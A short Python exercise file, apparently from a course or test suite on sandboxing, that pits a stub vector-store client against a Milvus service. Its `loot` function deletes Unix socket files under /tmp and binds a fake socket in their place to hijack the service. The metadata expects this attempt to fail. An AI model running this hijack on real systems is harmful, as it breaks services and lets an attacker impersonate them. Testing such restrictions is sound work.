#: attempts = "take over the socket at which Milvus is expected"
#: number = 25
#: layer = "view"
#: exercise = "ch01/ex02"
#: off = ["view", "capabilities"]
#: without = {test_loot = "failed"}
import os
import pathlib
import socket


def loot(client):
    for door in pathlib.Path("/tmp").glob("gr-*/d/*"):
        try:
            door.unlink()
            fake = socket.socket(socket.AF_UNIX)
            fake.bind(str(door))
            return f"took over {door.name}"
        except OSError:
            continue
    return "nothing"


def store(client, name, vectors):
    return None


def nearest(client, name, query):
    return -1
